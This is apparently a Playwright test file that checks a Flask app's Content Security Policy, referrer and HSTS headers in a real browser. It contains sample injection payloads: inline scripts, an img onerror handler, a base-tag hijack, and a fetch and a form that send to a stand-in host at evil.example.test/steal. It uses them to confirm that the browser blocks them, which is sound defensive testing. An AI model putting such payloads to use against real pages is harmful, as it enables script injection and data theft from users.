"""The security headers in a real browser: they allow what pages need and stop what they name.

That no page violates the policy is checked with every test: see the fixture `people`.
"""

import re

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.browser.application import App
from tests.browser.person import Person
from tests.browser.site import Site, site
from tests.servers.identity import IdentityProvider

# A picture that was loaded has a width of its own.
LOADED = "image => image.complete && image.naturalWidth > 0"


def loaded(page: Page, name: str | re.Pattern[str]) -> bool:
    """Whether the picture with this text shows."""
    picture = page.get_by_role("img", name=name)
    picture.evaluate("image => image.decode().catch(() => null)")
    return bool(picture.evaluate(LOADED))


def test_the_providers_picture_shows_and_no_referrer_goes_with_it(
    app: App, person: Person, provider: IdentityProvider
) -> None:
    with person.page.expect_request("**/picture/jane.svg") as asked:
        person.sign_in("/profile")

    assert loaded(person.page, "Picture of Jane Doe")
    assert provider.knobs.counters()["/picture/jane.svg"] == 1
    assert asked.value.all_headers().get("referer") is None


def test_a_picture_of_another_origin_shows_over_https(app: App, person: Person, elsewhere: Site) -> None:
    person.open(f"/test/picture?src={elsewhere.at('evil.example.test')}/picture.svg")

    assert loaded(person.page, "Picture")


def test_a_picture_with_an_http_address_is_asked_for_over_https(app: App, person: Person, elsewhere: Site) -> None:
    address = elsewhere.at("evil.example.test").replace("https:", "http:")
    person.open(f"/test/picture?src={address}/picture.svg")

    assert loaded(person.page, "Picture")


@pytest.mark.parametrize("path", ["/", "/nowhere", "/test/error/400"])
def test_a_script_or_style_in_the_page_does_not_run(app: App, browser: Browser, path: str) -> None:
    with Person(browser, app) as person:
        page = person.open(path)
        page.evaluate(
            """() => {
                const script = document.createElement("script");
                script.textContent = "document.title = 'ran'";
                document.body.append(script);
                const style = document.createElement("style");
                style.textContent = "h1 { display: none }";
                document.body.append(style);
                document.body.setAttribute("style", "display: none");
                document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='document.title=1'>");
            }"""
        )
        expect(page.get_by_role("heading", level=1)).to_be_visible()
        assert page.title() not in ("ran", "1")
        assert len([complaint for complaint in person.complaints if "Content Security Policy" in complaint]) >= 4


def test_a_script_of_another_site_does_not_run_and_nothing_is_sent_there(
    app: App, browser: Browser, elsewhere: Site
) -> None:
    elsewhere.show("/x.js", "document.title = 'ran'", Content_Type="text/javascript")
    with Person(browser, app) as person:
        page = person.open()
        outcome = page.evaluate(
            """async origin => {
                const script = document.createElement("script");
                script.src = origin + "/x.js";
                const failed = new Promise(done => {
                    script.onerror = () => done("stopped");
                    script.onload = () => done("ran");
                });
                document.body.append(script);
                const base = document.createElement("base");
                base.href = origin;
                document.head.append(base);
                const sent = await fetch(origin + "/steal", {mode: "no-cors"}).then(() => "sent", () => "stopped");
                return [await failed, sent, document.baseURI];
            }""",
            elsewhere.at("evil.example.test"),
        )
    assert outcome == ["stopped", "stopped", f"{app.origin}/"]
    assert elsewhere.requests == []


def test_a_form_that_somebody_put_into_a_page_cannot_send_to_another_site(
    app: App, browser: Browser, elsewhere: Site
) -> None:
    with Person(browser, app) as person:
        page = person.open()
        with page.expect_console_message(lambda message: "form-action" in message.text):
            page.evaluate(
                """origin => {
                    const form = document.createElement("form");
                    form.action = origin + "/steal";
                    document.body.append(form);
                    form.submit();
                }""",
                elsewhere.at("evil.example.test"),
            )
    assert elsewhere.requests == []


def test_text_is_not_run_as_a_script(app: App, browser: Browser) -> None:
    with Person(browser, app) as person:
        page = person.open("/test/script")
        assert page.title() == "Test – auth0-flask"
        assert any("MIME type" in complaint for complaint in person.complaints)


def test_localhost_gets_no_hsts_so_that_plain_http_on_its_other_ports_works(app: App, person: Person) -> None:
    with person.page.expect_response(f"{app.origin}/") as answer:
        person.open()
    # Chromium would overlook the header for localhost; other browsers would not.
    assert "strict-transport-security" not in answer.value.headers
    with site(None) as plain:
        plain.show("/", "<h1>plain</h1>")
        person.page.goto(plain.at("localhost"))
        assert person.page.url == f"{plain.at('localhost')}/"
        expect(person.page.get_by_role("heading")).to_have_text("plain")


def test_a_host_with_a_name_is_asked_over_https_ever_after(public_app: App, browser: Browser) -> None:
    with Person(browser, public_app) as person:
        person.open()
        answers: list[tuple[str, int]] = []
        person.context.on("response", lambda response: answers.append((response.url, response.status)))
        plain = public_app.origin.replace("https:", "http:")
        person.page.goto(f"{plain}/nowhere")

        assert person.page.url == f"{public_app.origin}/nowhere"
        # The browser's own redirect: nothing went over plain HTTP, which the port does not speak.
        assert [answer for answer in answers if answer[0].endswith("/nowhere")] == [
            (f"{plain}/nowhere", 307),
            (f"{public_app.origin}/nowhere", 404),
        ]
